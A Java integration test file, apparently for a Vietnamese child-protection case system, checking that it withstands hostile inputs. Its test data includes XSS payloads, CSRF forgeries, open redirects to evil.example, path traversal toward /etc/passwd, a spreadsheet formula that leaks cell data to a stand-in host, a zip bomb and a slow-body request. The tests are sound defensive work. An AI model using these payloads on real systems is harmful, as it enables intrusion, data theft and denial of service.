package vn.childguard.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.AbstractMockHttpServletRequestBuilder;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import vn.childguard.test.ChildGuardIntegrationTest;
import vn.childguard.test.DemoUsers;

/**
 * One test per class of hostile input (issue #11): stored and reflected XSS, CSRF, open redirect
 * after sign-in, path traversal in a download, formula injection in an export, an oversized upload.
 * The other exports are proved where they are written: XLSX in {@code DocumentRendererTests}, the
 * network CSV in {@code IntelligenceIntegrationTests}, the audit CSV cell rule in {@code CsvWriterTests}.
 */
@ChildGuardIntegrationTest
class HostileInputIntegrationTests {

    static final JsonMapper JSON = JsonMapper.builder().build();
    static final String SCRIPT = "<script>alert('cg')</script><img src=x onerror=alert(1)>";

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcTemplate jdbc;
    @LocalServerPort
    int port;

    @Test
    void storedScriptInACaseNoteAndAnIntakeNarrativeIsShownAsTextNeverRun() throws Exception {
        String officer = token("commune.officer");
        long caseId = openCase(officer);
        call(post("/api/v1/cases/" + caseId + "/notes"), officer, Map.of("body", "Ghi chú " + SCRIPT), 201);
        String casePage = page(get("/cases/" + caseId), DemoUsers.login(mvc, "commune.officer"));
        assertEscaped(casePage);

        String hotline = token("hotline.operator");
        long intake = json(call(post("/api/v1/intakes"), hotline, Map.of("channel", "HOTLINE_111", "unitCode", "25486",
                "narrative", "Trình báo " + SCRIPT, "urgency", "HIGH", "reporterAnonymous", true,
                "people", List.of(Map.of("part", "CHILD", "newPerson", Map.of("fullName",
                        "Lê Văn <b>Tí</b> " + UUID.randomUUID().toString().substring(0, 6), "estimatedAge", 9)))), 201))
                .get("id").asLong();
        String intakePage = page(get("/intakes/" + intake), DemoUsers.login(mvc, "hotline.operator"));
        assertEscaped(intakePage);
        assertThat(intakePage).doesNotContain("<b>Tí</b>").contains("&lt;b&gt;Tí&lt;/b&gt;");
    }

    @Test
    void aScriptInAQueryParameterIsNotReflectedIntoThePage() throws Exception {
        String search = page(get("/people/candidates").param("name", SCRIPT), DemoUsers.login(mvc, "commune.officer"));
        assertEscaped(search);
        String audit = page(get("/audit").param("user", SCRIPT).param("entityType", SCRIPT),
                DemoUsers.login(mvc, "auditor"));
        assertEscaped(audit);
        // the policy forbids inline script anyway, as a second line
        var response = mvc.perform(get("/people/candidates").param("name", SCRIPT)
                .session(DemoUsers.login(mvc, "commune.officer"))).andReturn().getResponse();
        assertThat(response.getHeader("Content-Security-Policy")).contains("script-src 'self'")
                .doesNotContain("unsafe-inline");
    }

    @Test
    void aFormPostedWithoutTheSessionsCsrfTokenIsRefusedAndChangesNothing() throws Exception {
        String officer = token("commune.officer");
        long caseId = openCase(officer);
        MockHttpSession session = DemoUsers.login(mvc, "commune.officer");
        int notes = notes(caseId);
        for (var forged : List.of(post("/cases/" + caseId + "/notes").param("body", "giả mạo"),
                post("/cases/" + caseId + "/notes").param("body", "giả mạo").with(csrf().useInvalidToken()))) {
            assertThat(mvc.perform(forged.session(session)).andReturn().getResponse().getStatus()).isEqualTo(403);
        }
        assertThat(notes(caseId)).isEqualTo(notes);
        // the same form with the token works, so the refusal was the token's
        mvc.perform(post("/cases/" + caseId + "/notes").param("body", "thật").session(session).with(csrf()));
        assertThat(notes(caseId)).isEqualTo(notes + 1);
        // login CSRF: a sign-in form posted from another site is refused too
        assertThat(mvc.perform(post("/login").param("username", "leader").param("password", DemoUsers.PASSWORD))
                .andReturn().getResponse().getStatus()).isEqualTo(403);
    }

    @Test
    void signingInNeverRedirectsToAnotherSite() throws Exception {
        for (String parameter : List.of("redirect", "next", "continue", "targetUrl", "returnUrl", "url")) {
            var response = mvc.perform(post("/login").param("username", "leader").param("password", DemoUsers.PASSWORD)
                    .param(parameter, "https://evil.example/phish").with(csrf())).andReturn().getResponse();
            assertThat(response.getRedirectedUrl()).as(parameter).isEqualTo("/");
        }
        // the page asked for before signing in is the only target, and it is on this server
        MockHttpSession visitor = new MockHttpSession();
        mvc.perform(get("/plans").param("redirect", "https://evil.example/").session(visitor));
        var response = mvc.perform(post("/login").param("username", "leader").param("password", DemoUsers.PASSWORD)
                .session(visitor).with(csrf())).andReturn().getResponse();
        assertThat(sameSite(response.getRedirectedUrl())).as(response.getRedirectedUrl()).isTrue();
        // the Referer is not a target either
        var referred = mvc.perform(post("/login").param("username", "leader").param("password", DemoUsers.PASSWORD)
                .header("Referer", "https://evil.example/").with(csrf())).andReturn().getResponse();
        assertThat(referred.getRedirectedUrl()).isEqualTo("/");
    }

    @Test
    void aFileNameOrPathThatClimbsOutOfItsFolderReachesNothing() throws Exception {
        String officer = token("commune.officer");
        long caseId = openCase(officer);
        MockHttpSession session = DemoUsers.login(mvc, "commune.officer");
        byte[] pdf = "%PDF-1.4\n% hồ sơ\n".getBytes(StandardCharsets.UTF_8);
        mvc.perform(multipart("/cases/" + caseId + "/attachments")
                .file(new MockMultipartFile("file", "../../../../etc/passwd.pdf", "application/pdf", pdf))
                .session(session).with(csrf()));
        Long attachment = jdbc.queryForObject("select max(id) from case_attachment where case_id = ?", Long.class, caseId);
        assertThat(attachment).isNotNull();
        assertThat(jdbc.queryForObject("select file_name from case_attachment where id = ?", String.class, attachment))
                .doesNotContain("/").doesNotContain("\\");
        var download = mvc.perform(get("/cases/" + caseId + "/attachments/" + attachment).session(session))
                .andReturn().getResponse();
        assertThat(download.getStatus()).isEqualTo(200);
        assertThat(download.getHeader("Content-Disposition")).startsWith("attachment").doesNotContain("/");
        assertThat(download.getContentAsByteArray()).isEqualTo(pdf);

        // encoded climbs in the path of a download or of a static file find nothing
        for (String path : List.of("/cases/" + caseId + "/attachments/..%2F..%2F..%2Fetc%2Fpasswd",
                "/cases/" + caseId + "/attachments/%2e%2e%2f%2e%2e%2fapplication.yaml",
                "/css/..%2F..%2Fapplication.yaml", "/css/%2e%2e/%2e%2e/application.yaml",
                "/js/..%5C..%5Capplication.yaml")) {
            var response = mvc.perform(get(path).session(session)).andReturn().getResponse();
            assertThat(response.getStatus()).as(path).isIn(400, 404);
            assertThat(response.getContentAsString()).as(path).doesNotContain("datasource");
        }
    }

    @Test
    void aUserNameThatIsAFormulaLeavesTheAuditExportAsText() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/\"&A1,\"Xem\")" + UUID.randomUUID().toString().substring(0, 4);
        perform(post("/api/v1/auth/token").contentType(MediaType.APPLICATION_JSON)
                .content(JSON.writeValueAsString(Map.of("username", formula, "password", "x"))), "198.18.0.9");
        String csv = mvc.perform(get("/audit/export.csv").param("user", formula).param("action", "LOGIN_FAILED")
                .session(DemoUsers.login(mvc, "auditor"))).andReturn().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains("'=HYPERLINK");
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split(",")) {
                assertThat(cell.replace("\"", "")).as(line).doesNotStartWith("=");
            }
        }
    }

    @Test
    void anOversizedUploadIsRefusedWithAMessageAndNothingIsStored() throws Exception {
        String officer = token("commune.officer");
        long caseId = openCase(officer);
        MockHttpSession session = DemoUsers.login(mvc, "commune.officer");
        byte[] big = new byte[10 * 1024 * 1024 + 1];
        byte[] magic = "%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(magic, 0, big, 0, magic.length);
        Arrays.fill(big, magic.length, big.length, (byte) 'a');
        var response = mvc.perform(multipart("/cases/" + caseId + "/attachments")
                .file(new MockMultipartFile("file", "lon.pdf", "application/pdf", big))
                .session(session).with(csrf())).andReturn().getResponse();
        assertThat(response.getStatus()).isLessThan(500);
        assertThat(jdbc.queryForObject("select count(*) from case_attachment where case_id = ?", Integer.class, caseId))
                .isZero();
        // the API says why, as a problem
        var api = mvc.perform(multipart("/api/v1/cases/" + caseId + "/attachments")
                .file(new MockMultipartFile("file", "lon.pdf", "application/pdf", big))
                .header("Authorization", "Bearer " + officer)).andReturn().getResponse();
        assertThat(api.getStatus()).isIn(400, 413, 422);
        assertThat(api.getContentAsString(StandardCharsets.UTF_8)).contains("file");
        assertThat(jdbc.queryForObject("select count(*) from case_attachment where case_id = ?", Integer.class, caseId))
                .isZero();
    }

    // ---------------------------------------------------------------- helpers

    @Test
    void aZipBombWorkbookIsRefusedBeforeItIsInflatedAndNothingIsStored() throws Exception {
        String officer = token("exit.officer");
        String id = "ZB" + UUID.randomUUID().toString().substring(0, 8);
        byte[] workbook;
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(); var out = new java.io.ByteArrayOutputStream()) {
            var header = wb.createSheet("Xuat canh").createRow(0);
            String[] columns = {"record_id", "full_name", "birth_date", "sex", "document_number", "nationality",
                "travel_date", "direction", "border_gate", "destination_country"};
            for (int c = 0; c < columns.length; c++) {
                header.createCell(c).setCellValue(columns[c]);
            }
            var row = wb.getSheetAt(0).createRow(1);
            String[] values = {id, "Lê Văn Bình", "1990-01-01", "M", "C0000001", "VN", "2026-11-28", "EXIT", "MOC_BAI", "KH"};
            for (int c = 0; c < values.length; c++) {
                row.createCell(c).setCellValue(values[c]);
            }
            wb.write(out);
            workbook = out.toByteArray();
        }
        // 300 MB of shared strings, which a reader holds in memory, in well under a megabyte
        byte[] bomb = vn.childguard.test.ZipBombs.padded(workbook, "xl/sharedStrings.xml", 300L << 20);
        assertThat(bomb.length).isLessThan(1 << 20);
        var response = mvc.perform(multipart("/api/v1/screening/batches")
                .file(new MockMultipartFile("file", "bomb.xlsx", "application/octet-stream", bomb))
                .header("Authorization", "Bearer " + officer)).andReturn().getResponse();
        assertThat(response.getStatus()).isEqualTo(422);
        JsonNode body = JSON.readTree(response.getContentAsString(StandardCharsets.UTF_8));
        assertThat(body.get("errors").get(0).get("message").asString()).contains("bom nén");
        assertThat(jdbc.queryForObject("select status from screening_batch where id = ?", String.class,
                body.get("batchId").asLong())).isEqualTo("REJECTED");
        assertThat(jdbc.queryForObject("select count(*) from screening_record where record_id = ?", Integer.class, id))
                .isZero();
    }

    @Test
    void aBodyThatTricklesInIsCutOffAfterTheGracePeriodInsteadOfHoldingAThread() throws Exception {
        String hotline = token("hotline.operator");
        String marker = "Nhỏ giọt " + UUID.randomUUID();
        long intakesBefore = jdbc.queryForObject("select count(*) from intake_report", Long.class);
        byte[] body = JSON.writeValueAsBytes(Map.of("channel", "HOTLINE_111", "unitCode", "25486", "narrative",
                marker + " " + "x".repeat(4_000), "urgency", "LOW", "reporterAnonymous", true));
        try (var socket = new java.net.Socket("127.0.0.1", port)) {
            socket.setSoTimeout(30_000);
            var out = socket.getOutputStream();
            out.write(("POST /api/v1/intakes HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + hotline
                    + "\r\nContent-Type: application/json\r\nContent-Length: " + body.length + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            long start = System.nanoTime();
            // 20 bytes every 300 ms: the whole body would take more than a minute
            Thread trickle = Thread.ofVirtual().start(() -> {
                try {
                    for (int i = 0; i < body.length; i += 20) {
                        out.write(body, i, Math.min(20, body.length - i));
                        out.flush();
                        Thread.sleep(300);
                    }
                } catch (java.io.IOException cutOff) {
                    // the server closed the connection: the outcome this test waits for, asserted below
                } catch (InterruptedException stopped) {
                    Thread.currentThread().interrupt();
                }
            });
            String status = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(),
                    StandardCharsets.US_ASCII)).readLine();
            long seconds = java.time.Duration.ofNanos(System.nanoTime() - start).toSeconds();
            trickle.interrupt();
            assertThat(status).as("the server answers before the body is complete").startsWith("HTTP/1.1 4");
            assertThat(seconds).as("cut off soon after the 2 s grace of the test profile").isLessThan(20);
        }
        assertThat(jdbc.queryForObject("select count(*) from intake_report", Long.class)).isEqualTo(intakesBefore);
    }

    @Test
    void aNulCharacterInAParameterIsRefusedWithAReasonBeforeItReachesTheDatabase() throws Exception {
        // PostgreSQL cannot compare text holding NUL: without the filter this search was a server error
        var page = mvc.perform(get("/screening").param("status", "OPEN\u0000").param("rule", "x")
                .session(DemoUsers.login(mvc, "police.officer"))).andReturn().getResponse();
        assertThat(page.getStatus()).isEqualTo(400);
        assertThat(page.getContentAsString(StandardCharsets.UTF_8)).contains("NUL");
    }

    static void assertEscaped(String html) {
        assertThat(html).doesNotContain("<script>alert").doesNotContain("onerror=alert(1)>")
                .doesNotContain("<img src=x");
    }

    static boolean sameSite(String location) {
        return location != null && (location.startsWith("http://localhost/") || location.equals("/")
                || (location.startsWith("/") && !location.startsWith("//") && !location.startsWith("/\\")));
    }

    String page(AbstractMockHttpServletRequestBuilder<?> request, MockHttpSession session) throws Exception {
        var response = mvc.perform(request.session(session)).andReturn().getResponse();
        assertThat(response.getStatus()).isEqualTo(200);
        return response.getContentAsString(StandardCharsets.UTF_8);
    }

    int notes(long caseId) {
        return jdbc.queryForObject("select count(*) from case_note where case_id = ?", Integer.class, caseId);
    }

    long openCase(String token) throws Exception {
        long child = json(call(post("/api/v1/persons"), token, Map.of("fullName",
                "Lê Thị Thù Địch " + UUID.randomUUID().toString().substring(0, 6), "birthDate", "2011-05-02",
                "sex", "F", "documents", List.of(), "unitCode", "25486"), 201)).get("id").asLong();
        return json(call(post("/api/v1/cases"), token, Map.of("childPersonId", child, "unitCode", "25486",
                "seriousRisk", false), 201)).get("kase").get("id").asLong();
    }

    String token(String user) throws Exception {
        return json(perform(post("/api/v1/auth/token").contentType(MediaType.APPLICATION_JSON)
                .content("{\"username\":\"" + user + "\",\"password\":\"" + DemoUsers.PASSWORD + "\"}"), "198.18.0.1"))
                .get("token").asString();
    }

    MockHttpServletResponse call(AbstractMockHttpServletRequestBuilder<?> request, String token, Object body,
                                 int expected) throws Exception {
        request.header("Authorization", "Bearer " + token);
        if (body != null) {
            request.contentType(MediaType.APPLICATION_JSON).content(JSON.writeValueAsString(body));
        }
        var response = mvc.perform(request).andReturn().getResponse();
        assertThat(response.getStatus()).as(response.getContentAsString()).isEqualTo(expected);
        return response;
    }

    MockHttpServletResponse perform(AbstractMockHttpServletRequestBuilder<?> request, String address) throws Exception {
        return mvc.perform(request.with(r -> {
            r.setRemoteAddr(address);
            return r;
        })).andReturn().getResponse();
    }

    static JsonNode json(MockHttpServletResponse response) throws Exception {
        return JSON.readTree(response.getContentAsString(StandardCharsets.UTF_8));
    }
}
